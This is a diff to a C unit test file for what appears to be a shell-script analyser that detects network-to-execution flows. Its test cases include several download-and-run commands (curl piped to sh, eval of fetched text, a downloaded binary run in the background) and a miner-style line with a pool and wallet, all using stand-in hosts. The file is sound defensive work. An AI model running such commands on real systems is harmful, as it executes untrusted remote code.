@@ -3,7 +3,7 @@
 #include "util/buf.h"
 
 /* All of it is new. */
-static struct member *sh_new(const char *old, const char *text)
+static struct member *sh_asked(const char *old, const char *text, enum status due)
 {
 	struct member *m = member_make("x.sh", str_of(old), str_of(text));
 	enum status status;
@@ -11,8 +11,13 @@ static struct member *sh_new(const char *old, const char *text)
 	member_align(m, LANGUAGE_SHELL);
 	assert_int_equal(align_units(&m->in, LANGUAGE_SHELL, m->new_, m->old, &m->al, &m->spans, &m->n_spans), STATUS_OK);
 	status = sh_analyse(&m->in, m->new_, 0, m->old, &m->al, m->spans, m->n_spans, m->lines);
-	assert_int_equal(status, STATUS_OK);
+	assert_int_equal(status, due);
 	return m;
+}
+
+static struct member *sh_new(const char *old, const char *text)
+{
+	return sh_asked(old, text, STATUS_OK);
 }
 
 static void facts_print(const struct member *m)
@@ -76,6 +81,10 @@ static void test_download_and_run(void **state)
 	flows("curl -s https://get.agent.example/i | python3\n", "net>exec", NULL);
 	flows("curl -s https://get.agent.example/i | while read -r l; do eval \"$l\"; done\n", "net>exec", NULL);
 	flows("{ curl -s https://get.agent.example/i; } | (cd /tmp && sh)\n", "net>exec", NULL);
+	/* what a text that is run writes goes on */
+	flows("sh -c 'curl -s https://get.agent.example/i' | sh\n", "net>exec", "get.agent.example");
+	flows("eval \"eval curl -s https://get.agent.example/i\" | sh\n", "net>exec", "get.agent.example");
+	flows("x=$(bash -c 'curl -s https://get.agent.example/i')\neval \"$x\"\n", "net>exec", "get.agent.example");
 	flows("get() { curl -fsSL \"$1\"; }\nget https://get.agent.example/i | sh\n", "net>exec", "get.agent.example");
 	flows("curl -o /tmp/a https://get.agent.example/a\nchmod +x /tmp/a\n/tmp/a -d &\n", "net>run", "get.agent.example");
 	flows("d=/tmp/.x\ncurl -s https://get.agent.example/a > $d/a && sh $d/a\n", "net>run", "get.agent.example");
@@ -251,6 +260,7 @@ static void test_ordinary_scripts(void **state)
 	no_flow("curl -s -H \"Accept: text/plain\" https://c.example/status\n");
 	no_flow("curl -X POST -d 'done=1' https://c.example/hook\n");
 	no_flow("wget -O - https://c.example/v | grep -o '[0-9.]*'\n");
+	no_flow("sh -c 'curl -s https://c.example/list' | grep -c v1\neval \"x=1\" | sh\n");
 	no_flow("eval \"$(ssh-agent -s)\"\neval \"$(dircolors)\"\n");
 	no_flow("python3 - <<'EOF'\nprint(1)\nEOF\n");
 	no_flow("git clone https://git.example/x && cd x && make && sudo make install\n");
@@ -322,9 +332,38 @@ static void test_packed_programs(void **state)
 	fires("/usr/lib/x/d --url=pool.vendor.example:443 --user=0x52908400098527886E0F7030069857D2E4169EE7 &\n", FACT_STRING, "wallet-address", NULL);
 }
 
+/* Commands that lie deeper than we follow are not known, unless they were there before. */
+static void test_too_deep(void **state)
+{
+	static const char *const open[] = {"$( ", "${x:-"}, *const close[] = {" )", "}"}, *const inside[] = {"curl https://c.example/x | sh", "$(curl https://c.example/x | sh)"};
+	struct buf old, b;
+
+	(void)state;
+	for (size_t k = 0; k < 2; k++)
+		for (unsigned deep = 3; deep <= 60; deep += 57) {
+			buf_init(&b, 1 << 12);
+			buf_add_z(&b, "echo ");
+			for (unsigned i = 0; i < deep; i++)
+				buf_add_z(&b, open[k]);
+			buf_add_z(&b, inside[k]);
+			for (unsigned i = 0; i < deep; i++)
+				buf_add_z(&b, close[k]);
+			buf_add(&b, "\n", 2);
+			member_free(sh_asked(NULL, buf_str(&b).p, deep > 3 ? STATUS_LIMIT : STATUS_OK));
+			buf_init(&old, 1 << 12);
+			buf_add_str(&old, str_part(buf_str(&b), 0, b.len - 1));
+			buf_add(&old, "true\n", 6);
+			if (k == 0)
+				member_free(sh_asked(buf_str(&b).p, buf_str(&old).p, STATUS_OK));
+			buf_release(&old);
+			buf_release(&b);
+		}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_too_deep),
 		cmocka_unit_test(test_download_and_run),
 		cmocka_unit_test(test_spelling),
 		cmocka_unit_test(test_runs_files),
